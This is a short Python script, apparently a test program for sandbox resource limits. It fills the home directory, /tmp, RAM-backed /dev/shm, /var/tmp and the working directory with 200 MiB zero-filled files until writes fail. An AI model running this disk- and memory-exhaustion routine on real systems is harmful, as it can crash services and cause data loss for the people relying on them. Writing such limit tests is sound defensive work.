"""Writes files until there is no room left, wherever it may."""

import contextlib
import itertools
import os

for folder in (os.environ["HOME"], "/tmp", "/dev/shm", "/var/tmp", "."):
    with contextlib.suppress(OSError):
        for number in itertools.count():
            with open(f"{folder}/full-{number}", "wb") as file:
                for _ in range(200):
                    file.write(bytes(1 << 20))
raise RuntimeError("full")
